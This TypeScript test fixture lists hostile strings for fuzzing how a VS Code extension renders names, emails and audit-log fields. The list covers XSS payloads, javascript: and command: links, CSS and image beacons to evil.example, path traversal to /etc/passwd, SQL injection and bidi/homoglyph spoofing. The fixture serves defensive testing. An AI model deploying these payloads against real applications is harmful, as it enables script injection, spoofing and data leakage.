// Payloads that user-controlled fields of the fake may carry. The extension renders names,
// emails and audit-log fields in tree views, webviews and markdown hovers; each entry targets
// one way that rendering can go wrong (HTML/JS injection, command links, bidi spoofing,
// layout-breaking lengths, encoding).

const RLO = '\u202E';
const ZWSP = '\u200B';
const ZWJ = '\u200D';

export const HOSTILE_STRINGS: readonly string[] = [
  // HTML / script injection
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '"><script>alert(document.domain)</script>',
  "'><img src=x onerror=alert('xss')>",
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">click me</a>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext></p><script>alert(1)</script>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<style>*{display:none}</style>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">overlay</div>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '</textarea><script>alert(1)</script>',
  '{{constructor.constructor(\'alert(1)\')()}}',
  '${alert(1)}',
  '`${alert(1)}`',
  // URL schemes
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  // CSS injection
  'x; background:url(https://evil.example/leak)',
  'expression(alert(1))',
  '</style><style>body{background:url(https://evil.example/?c=)}</style>',
  // Markdown / VS Code command links
  '[x](command:workbench.action.quit)',
  '[Open settings](command:workbench.action.openSettings?%5B%22security%22%5D)',
  '[click](javascript:alert(1))',
  '![img](https://evil.example/track.png)',
  '**bold** _it_ `code` # heading',
  '<!-- comment --> hidden',
  '$(alert) $(gear) codicon syntax',
  // Entities and escaping
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;&quot;&#39;&#x3C;',
  '"double" \'single\' `back` \\backslash\\',
  'line1\nline2\r\nline3\ttab',
  'null\u0000byte',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '../../../../etc/passwd',
  "Robert'); DROP TABLE users;--",
  // Unicode tricks
  `admin${RLO}gnp.exe`,
  `${RLO}evil-right-to-left`,
  `zero${ZWSP}width${ZWSP}space`,
  `joi${ZWJ}ner\uFEFFbom`,
  '\u0430dmin (cyrillic a)',
  'e\u0301\u0301\u0301 combining marks Z\u0335\u0321\u0322a\u0336\u0327lgo',
  '🚀🔥 emoji project 👩‍👩‍👧‍👦',
  '🏳️‍🌈🇺🇳 flags and ZWJ sequences',
  '数据分析项目 — 中文名称',
  'مشروع تجريبي باللغة العربية',
  'プロジェクト テスト 日本語',
  'Ünïcödé Prøjéct Ñame',
  '\uD800 lone surrogate',
  ' leading and trailing spaces ',
  '',
  // Length
  'L'.repeat(500),
  'A very long name that keeps going '.repeat(15).trim(),
  'X'.repeat(10_000),
];

/** The payloads that are safe to embed in the local part of an email-ish string. */
export function hostileEmail(payload: string, n: number): string {
  return `${payload.slice(0, 200)}.${n}@evil.example`;
}
